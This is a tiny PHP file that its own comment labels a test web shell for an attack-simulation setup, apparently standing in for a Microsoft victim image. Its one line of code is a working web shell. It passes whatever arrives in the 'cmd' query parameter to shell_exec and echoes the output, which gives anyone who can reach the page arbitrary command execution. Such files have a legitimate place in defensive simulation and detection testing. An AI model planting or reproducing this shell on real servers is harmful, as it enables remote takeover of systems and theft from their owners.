<!-- test web shell for defender.attack_simulation (a stand-in for Microsoft's victim image) -->
<?php echo shell_exec($_GET["cmd"] . " 2>&1"); ?>
